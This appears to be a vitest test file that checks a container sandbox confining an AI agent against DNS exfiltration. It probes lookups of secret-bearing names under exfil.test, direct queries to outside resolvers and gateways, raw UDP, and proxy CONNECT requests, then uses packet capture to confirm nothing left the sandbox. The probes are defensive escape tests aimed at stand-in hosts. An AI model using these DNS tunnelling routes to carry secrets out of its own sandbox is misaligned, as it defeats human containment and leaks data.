// Sandbox escape, by DNS: a lookup of `<secret>.exfil.test` carries the secret to whoever
// runs the zone's name server, through every resolver on the way. From inside a real bottle
// the agent looks up exfiltration names with its own resolver, asks outside resolvers
// directly (a stand-in DNS server the test runs on the bottle's egress network, documentation
// addresses, the gateways) and through the proxies. A packet capture in the host's network
// namespace (every bridge, every veth, the way out of the machine) and the stand-in's own
// log must show that no query for an outside name left the bottle.
import { randomBytes } from "node:crypto";
import { afterAll, beforeAll, expect, it } from "vitest";
import type { RunningBottle } from "../support/docker/bottle-harness.js";
import { bridgeGateway } from "../support/docker/docker-state.js";
import { describeWithEngine } from "../support/docker/engine.js";
import {
  curlThrough,
  EGRESS_PROXY,
  pipelockProxy,
  probeWithControls,
  reachedTargets,
} from "../support/docker/escape-bottle.js";
import { type ProbeOp, probe } from "../support/docker/escape-probe.js";
import { escapeSuite } from "../support/docker/escape-suite.js";
import { routedBottle } from "../support/fixtures/bottle-yaml.js";
import {
  buildCaptureImage,
  type Capture,
  type DnsStandIn,
  gatewayOf,
  packetsContaining,
  type RecordingUpstream,
  sendControlQuery,
  startDnsStandIn,
  startHostCapture,
} from "../support/standins/escape-standins.js";

const SECRET = `cbsecret-${randomBytes(8).toString("hex")}`;
const HEX = Buffer.from(SECRET).toString("hex");
/** The exfiltration names: each would hand its first label to the zone's name server. */
const EXFIL_NAMES = ["secret-data.exfil.test", `${SECRET}.exfil.test`, `${HEX}.exfil.test`];
/** Documentation addresses (RFC 5737) standing in for public resolvers: never routed anywhere. */
const TEST_NET_RESOLVERS = ["198.51.100.53", "203.0.113.53"];

describeWithEngine("escape: DNS", () => {
  const suite = escapeSuite();
  const scope = suite.scope;
  const control = `control-${scope.id}.dns-control.test`;
  let bottle: RunningBottle;
  let upstream: RecordingUpstream;
  let dns: DnsStandIn;
  let capture: Capture;

  beforeAll(async () => {
    await buildCaptureImage();
    bottle = await suite.startBottle(
      "dns",
      routedBottle({
        allow: ["allowed.example.test", "*.wild.example.test"],
        route: "api.example.test",
        token: "cbtest-dns-route-token-2f6a0c",
        agentSecret: SECRET,
      }),
    );
    // Names a leak would resolve answer here, on the bottle's own network, never outside.
    upstream = await suite.startUpstream(bottle, [
      "allowed.example.test",
      "api.example.test",
      `${SECRET}.wild.example.test`,
      `${HEX}.wild.example.test`,
    ]);
    dns = await startDnsStandIn(scope, bottle.egressNetwork);
    capture = await startHostCapture(
      scope,
      "port 53 or udp port 9999 or net 198.51.100.0/24 or net 203.0.113.0/24",
    );
    // The control: a query that does cross a bridge, seen by the stand-in and the capture.
    await sendControlQuery(upstream.container, dns.ip, control);
  });

  afterAll(async () => {
    await capture?.stop();
  });

  it("resolves no outside name in the agent, allowed or not", async () => {
    // Threat: the agent's own resolver forwards the name to the host's resolvers and beyond.
    const names = [...EXFIL_NAMES, "allowed.example.test", "control.wild.example.test"];
    const ops: ProbeOp[] = [
      ...names.map((name): ProbeOp => ({ kind: "resolve", name })),
      ...EXFIL_NAMES.flatMap((name): ProbeOp[] => [
        { kind: "dns", server: "127.0.0.11", name, transport: "udp" },
        { kind: "dns", server: "127.0.0.11", name, transport: "tcp" },
      ]),
    ];
    const results = await probe(bottle.agentContainer, ops);
    expect(results.slice(0, names.length).map((r) => r.outcome)).toEqual(
      names.map(() => "unresolved"),
    );
    // Docker's resolver in the bottle answers, with an error and no address.
    for (const r of results.slice(names.length)) {
      expect(r.outcome).toBe("reply");
      expect(r.detail).toMatch(/^rcode=[1-9]\d* answers=0$/);
    }
    const getent = await bottle.exec(`getent hosts ${EXFIL_NAMES.join(" ")}; echo rc=$?`);
    expect(getent.stdout).toBe("rc=2\n");
  });

  it("reaches no outside resolver: a stand-in on the egress network, documentation addresses, the gateways", async () => {
    // Threat: the agent skips its resolver and asks one outside by address, over UDP or TCP.
    const servers = [
      dns.ip,
      ...TEST_NET_RESOLVERS,
      gatewayOf(bottle.egressNetwork),
      gatewayOf(bottle.internalNetwork),
      bridgeGateway(),
    ];
    const ops: ProbeOp[] = [
      ...servers.flatMap((server) =>
        EXFIL_NAMES.flatMap((name): ProbeOp[] => [
          { kind: "dns", server, name, transport: "udp" },
          { kind: "dns", server, name, transport: "tcp" },
        ]),
      ),
      // Any datagram at all, to the stand-in's catch-all port.
      { kind: "udp", host: dns.ip, port: 9999, payload: `raw ${SECRET}` },
    ];
    // The controls: the bottle's own resolver answers the same probes, over UDP and TCP.
    const own: ProbeOp[] = (["udp", "tcp"] as const).map((transport) => ({
      kind: "dns",
      server: "127.0.0.11",
      name: "egress",
      transport,
    }));
    expect(reachedTargets(ops, await probeWithControls(bottle, ops, own))).toEqual([]);
  });

  it("gets no name resolved through the proxies unless it is allowed and clean", async () => {
    // Threat: the proxy resolves whatever name a CONNECT or URL carries, and the lookup leaks it.
    for (const proxy of [EGRESS_PROXY, pipelockProxy(bottle)]) {
      for (const name of EXFIL_NAMES) {
        // A clean unlisted name is refused inside a tunnel pipelock answers itself (no lookup);
        // one carrying the secret only on the CONNECT, so no certificate ever holds it.
        const https = await curlThrough(bottle, `https://${name}/`, { proxy });
        const clean = name === EXFIL_NAMES[0];
        expect([https.connect, https.http], name).toEqual(clean ? [200, 403] : [403, 0]);
        expect((await curlThrough(bottle, `http://${name}/`, { proxy })).http).toBe(403);
      }
      for (const name of [`${SECRET}.wild.example.test`, `${HEX}.wild.example.test`]) {
        expect((await curlThrough(bottle, `https://${name}/`, { proxy })).connect).toBe(403);
      }
    }
    expect(await upstream.requests()).toEqual([]);
  });

  it("lets no query for an outside name leave the bottle (packet capture and stand-in log)", async () => {
    const captured = await capture.stop();
    // The capture and the stand-in do see a query that crosses a bridge.
    expect(captured).toContain(control);
    const logged = await dns.queries();
    expect(logged.map((q) => q.name)).toEqual([control]);
    const needles = [...EXFIL_NAMES, SECRET, HEX, "exfil.test", ...TEST_NET_RESOLVERS];
    const leaked = packetsContaining(captured, needles);
    expect(leaked).toEqual([]);
  });
});
